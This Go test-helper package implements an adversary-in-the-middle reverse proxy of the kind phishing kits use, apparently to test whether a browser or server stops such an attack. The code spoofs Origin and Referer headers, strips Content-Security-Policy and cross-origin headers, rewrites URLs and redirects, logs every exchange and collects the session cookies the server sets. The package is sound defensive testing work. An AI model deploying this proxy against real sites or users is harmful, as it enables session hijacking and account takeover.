// Package aitm is an adversary in the middle: a reverse proxy on an origin of
// its own that shows a person the real server's pages, passes every request on
// as if it came from the real origin, and keeps what comes back, as phishing
// kits do. It refuses nothing; whatever stops it must be the browser or the
// server.
package aitm

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
)

// Proxy is a running adversary.
type Proxy struct {
	Origin string // where the victim is lured to

	victim *url.URL
	mu     sync.Mutex // covers seen
	seen   []Exchange
}

// Exchange is one request that the adversary passed on.
type Exchange struct {
	Method, Path string
	Request      []byte // the body, as it was sent on
	Status       int
	Cookies      []*http.Cookie // that the server set
	Answer       []byte
}

// Start puts an adversary before the server at target, reached under host
// ("evil.localhost") on a free port.
func Start(t testing.TB, target, host string) *Proxy {
	t.Helper()
	victim, err := url.Parse(target)
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p := &Proxy{victim: victim, Origin: fmt.Sprintf("http://%s:%d", host, l.Addr().(*net.TCPAddr).Port)}
	s := &http.Server{Handler: p.handler()}
	go s.Serve(l)
	t.Cleanup(func() { s.Close() })
	return p
}

func (p *Proxy) real() string { return p.victim.Scheme + "://" + p.victim.Host }

func (p *Proxy) handler() http.Handler {
	proxy := &httputil.ReverseProxy{Rewrite: p.disguise, ModifyResponse: p.copyOut}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return
		}
		r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
		r.GetBody = func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(body)), nil }
		proxy.ServeHTTP(w, r)
	})
}

// disguise makes the request look as if the real page had sent it.
func (p *Proxy) disguise(r *httputil.ProxyRequest) {
	r.SetURL(p.victim)
	r.Out.Host = p.victim.Host
	r.Out.GetBody = r.In.GetBody
	r.Out.Header.Del("Accept-Encoding")
	r.Out.Header.Del("X-Forwarded-For")
	for _, h := range []string{"Origin", "Referer"} {
		if v := r.Out.Header.Get(h); v != "" {
			r.Out.Header.Set(h, strings.ReplaceAll(v, p.Origin, p.real()))
		}
	}
}

// copyOut keeps the answer, and makes the page believe it is at home.
func (p *Proxy) copyOut(r *http.Response) error {
	answer, err := io.ReadAll(r.Body)
	if err != nil {
		return err
	}
	e := Exchange{Method: r.Request.Method, Path: r.Request.URL.Path, Status: r.StatusCode, Cookies: r.Cookies(), Answer: answer}
	if r.Request.GetBody != nil {
		if b, err := r.Request.GetBody(); err == nil {
			e.Request, _ = io.ReadAll(b)
		}
	}
	p.mu.Lock()
	p.seen = append(p.seen, e)
	p.mu.Unlock()

	answer = bytes.ReplaceAll(answer, []byte(p.real()), []byte(p.Origin))
	r.Body = io.NopCloser(bytes.NewReader(answer))
	r.ContentLength = int64(len(answer))
	r.Header.Set("Content-Length", strconv.Itoa(len(answer)))
	for _, h := range []string{"Content-Security-Policy", "Cross-Origin-Opener-Policy", "Cross-Origin-Resource-Policy"} {
		r.Header.Del(h)
	}
	if to := r.Header.Get("Location"); to != "" {
		r.Header.Set("Location", strings.ReplaceAll(to, p.real(), p.Origin))
	}
	return nil
}

// Seen is what passed through so far.
func (p *Proxy) Seen() []Exchange {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]Exchange(nil), p.seen...)
}

// Stolen are the cookies with one of names and a value that the server gave
// the adversary.
func (p *Proxy) Stolen(names ...string) []*http.Cookie {
	var out []*http.Cookie
	for _, e := range p.Seen() {
		for _, c := range e.Cookies {
			for _, n := range names {
				if c.Name == n && c.Value != "" && c.MaxAge >= 0 {
					out = append(out, c)
				}
			}
		}
	}
	return out
}
